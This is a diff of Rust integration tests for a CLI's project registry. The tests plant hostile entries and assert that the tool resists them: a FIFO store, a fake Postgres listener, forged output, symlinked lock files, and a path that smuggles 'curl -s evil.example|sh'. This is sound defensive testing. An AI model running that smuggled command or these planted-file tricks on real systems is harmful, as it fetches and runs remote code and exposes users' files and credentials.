@@ -1,6 +1,8 @@
 //! `loopx projects`: every project a person ran `loopx init` in, at a glance, from a list kept
 //! in their state directory (`docs/projects.md`).
 
+use std::os::unix::fs::PermissionsExt;
+
 use crate::support::Loopx;
 
 /// A project whose commands share `state` (one person's state directory) with others.
@@ -211,4 +213,193 @@ fn status_all_shows_each_project_s_screen_and_says_which_cannot_be_shown() {
     let projects = json["projects"].as_array().expect("a list");
     assert_eq!(projects[0]["status"]["goal"]["id"], "g1", "{json}");
     assert!(projects[1]["error"].is_string(), "{json}");
+}
+
+/// Writes the list by hand, as something with the person's rights might.
+fn plant(state: &std::path::Path, roots: &[&str]) {
+    let file = state.join("loopx/projects.json");
+    std::fs::create_dir_all(file.parent().expect("dir")).expect("dir");
+    let projects: Vec<_> = roots
+        .iter()
+        .map(|r| serde_json::json!({ "root": r, "added": "2026-12-07T00:00:00Z" }))
+        .collect();
+    let text = serde_json::json!({ "version": 1, "projects": projects }).to_string();
+    std::fs::write(file, text).expect("write");
+}
+
+/// `loopx ARGS` with the person's state in `state`, given at most 20 s.
+fn bounded(state: &std::path::Path, dir: &std::path::Path, args: &[&str]) -> crate::support::Run {
+    let mut child = std::process::Command::new(crate::support::LOOPX)
+        .args(args)
+        .current_dir(dir)
+        .env("XDG_STATE_HOME", state)
+        .env_remove("LOOPX_SLICE")
+        .env("NO_COLOR", "1")
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("loopx starts");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    loop {
+        if child.try_wait().expect("wait").is_some() {
+            break;
+        }
+        if std::time::Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("`loopx {}` hung", args.join(" "));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    crate::support::Run::from(child.wait_with_output().expect("output"))
+}
+
+#[test]
+fn a_planted_entry_neither_hangs_the_list_nor_reaches_a_database() {
+    let state = tempfile::tempdir().expect("temp dir");
+    let good = project_of(state.path());
+    let fifo = tempfile::tempdir().expect("temp dir");
+    std::fs::create_dir(fifo.path().join(".loopx")).expect("dir");
+    let made = std::process::Command::new("mkfifo")
+        .arg(fifo.path().join(".loopx/state.redb"))
+        .status()
+        .expect("mkfifo");
+    assert!(made.success());
+    // A database that records whoever connects (with the person's PGPASSWORD, if it asked).
+    let db = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+    db.set_nonblocking(true).expect("nonblocking");
+    let remote = tempfile::tempdir().expect("temp dir");
+    std::fs::create_dir(remote.path().join(".loopx")).expect("dir");
+    let url = format!(
+        "postgres://victim@127.0.0.1:{}/x",
+        db.local_addr().expect("addr").port()
+    );
+    std::fs::write(
+        remote.path().join(".loopx/loopx.toml"),
+        format!("[store]\nurl = \"{url}\"\n"),
+    )
+    .expect("write");
+    let good_root = good.path().canonicalize().expect("root");
+    let forged = "/x/gone\n/tmp/b: 0 active goals, 0 questions open, 0 running, 0 monitors waiting; last activity 3d ago";
+    plant(
+        state.path(),
+        &[
+            fifo.path().to_str().expect("utf-8"),
+            remote.path().to_str().expect("utf-8"),
+            good_root.to_str().expect("utf-8"),
+            forged,
+            "/tmp/x; curl -s evil.example|sh #",
+            ".",
+        ],
+    );
+    let listed = bounded(state.path(), good.path(), &["projects"]);
+    assert_eq!(listed.code, 0, "{listed:?}");
+    let out = &listed.stdout;
+    assert!(out.contains("is a FIFO"), "{out}");
+    assert!(
+        out.contains("its store is the database postgres://victim@127.0.0.1"),
+        "{out}"
+    );
+    assert!(
+        out.contains(&format!("{}: 0 active goals", good_root.display())),
+        "{out}"
+    );
+    assert!(db.accept().is_err(), "nobody connected to the database");
+    assert!(
+        !out.lines().any(|l| l.starts_with("/tmp/b:")),
+        "no forged line: {out}"
+    );
+    assert!(
+        out.contains("forget '/tmp/x; curl -s evil.example|sh #'"),
+        "{out}"
+    );
+    assert!(
+        out.contains(".: cannot be read now: not an absolute path"),
+        "{out}"
+    );
+    let all = bounded(state.path(), good.path(), &["status", "--all"]);
+    assert_eq!(all.code, 0, "{all:?}");
+    assert!(
+        db.accept().is_err(),
+        "status --all connected to the database"
+    );
+    // And in the project itself, `loopx status` says what is wrong instead of waiting.
+    let status = bounded(state.path(), fifo.path(), &["status"]);
+    assert_ne!(status.code, 0, "{status:?}");
+    assert!(status.stderr.contains("is a FIFO"), "{}", status.stderr);
+}
+
+#[test]
+fn the_list_s_files_are_private_and_a_planted_lock_never_hangs_init() {
+    let state = tempfile::tempdir().expect("temp dir");
+    let dir = state.path().join("loopx");
+    std::fs::create_dir(&dir).expect("dir");
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    project_of(state.path());
+    let mode =
+        |p: &std::path::Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
+    assert_eq!(mode(&dir), 0o700);
+    assert_eq!(mode(&dir.join("projects.json")), 0o600);
+    assert_eq!(mode(&dir.join("projects.lock")), 0o600);
+
+    // A lock someone holds: `init` waits a few seconds, then makes the project and says why
+    // it is not listed.
+    let held = std::fs::File::open(dir.join("projects.lock")).expect("open");
+    held.lock().expect("lock");
+    let loopx = Loopx::empty();
+    let init = bounded(state.path(), loopx.path(), &["init"]);
+    assert_eq!(init.code, 0, "{init:?}");
+    assert!(
+        init.stdout.contains("held projects.lock"),
+        "{}",
+        init.stdout
+    );
+    drop(held);
+    // A FIFO, or a link to someone's file, in the lock's place.
+    std::fs::remove_file(dir.join("projects.lock")).expect("rm");
+    let made = std::process::Command::new("mkfifo")
+        .arg(dir.join("projects.lock"))
+        .status()
+        .expect("mkfifo");
+    assert!(made.success());
+    let fifo = bounded(state.path(), loopx.path(), &["init"]);
+    assert!(fifo.stdout.contains("not in `loopx projects`"), "{fifo:?}");
+    std::fs::remove_file(dir.join("projects.lock")).expect("rm");
+    let victim = state.path().join("victim.txt");
+    std::fs::write(&victim, "mine\n").expect("write");
+    std::os::unix::fs::symlink(&victim, dir.join("projects.lock")).expect("link");
+    let linked = bounded(state.path(), loopx.path(), &["init"]);
+    assert!(
+        linked.stdout.contains("not in `loopx projects`"),
+        "{linked:?}"
+    );
+    assert_eq!(std::fs::read_to_string(&victim).expect("read"), "mine\n");
+}
+
+#[test]
+fn forget_removes_the_entry_named_not_the_one_a_link_now_points_to() {
+    let state = tempfile::tempdir().expect("temp dir");
+    let kept = project_of(state.path());
+    let kept_root = kept.path().canonicalize().expect("root");
+    let gone = tempfile::tempdir().expect("temp dir");
+    let old = gone.path().join("oldexp");
+    plant(
+        state.path(),
+        &[
+            kept_root.to_str().expect("utf-8"),
+            old.to_str().expect("utf-8"),
+        ],
+    );
+    // Since registered, the old project's path became a link to the kept one.
+    std::os::unix::fs::symlink(&kept_root, &old).expect("link");
+    assert_eq!(
+        projects(state.path(), &["forget", old.to_str().expect("utf-8")]).code,
+        0
+    );
+    let json = projects(state.path(), &["--json"]).json();
+    assert_eq!(json["projects"].as_array().map(Vec::len), Some(1), "{json}");
+    assert_eq!(
+        json["projects"][0]["root"],
+        kept_root.to_str().expect("utf-8")
+    );
 }
